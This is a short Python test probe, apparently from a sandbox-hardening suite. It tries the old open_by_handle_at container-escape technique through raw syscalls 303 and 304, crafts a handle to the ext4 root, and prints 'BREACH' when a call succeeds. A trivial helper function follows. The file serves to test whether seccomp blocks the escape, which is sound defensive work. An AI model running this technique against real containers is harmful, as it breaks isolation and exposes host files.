# attack: open files by handle, without any path, as an old escape from containers did
# layer: seccomp
# outcome: ok
# score: 2
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
mount = ctypes.c_int()
handle = ctypes.create_string_buffer(struct.pack("<Ii", 120, 0) + bytes(120))
if libc.syscall(303, -100, b"/tmp", handle, ctypes.byref(mount), 0) == 0:
    os.write(1, b"BREACH name_to_handle_at")
root_of_ext4 = ctypes.create_string_buffer(struct.pack("<IiQ", 8, 1, 2))
for fd in (0, os.open("/tmp", os.O_RDONLY), os.open(os.path.dirname(os.__file__), os.O_RDONLY)):
    if libc.syscall(304, fd, root_of_ext4, 0) >= 0:
        os.write(1, b"BREACH open_by_handle_at")


def double(x):
    return x * 2
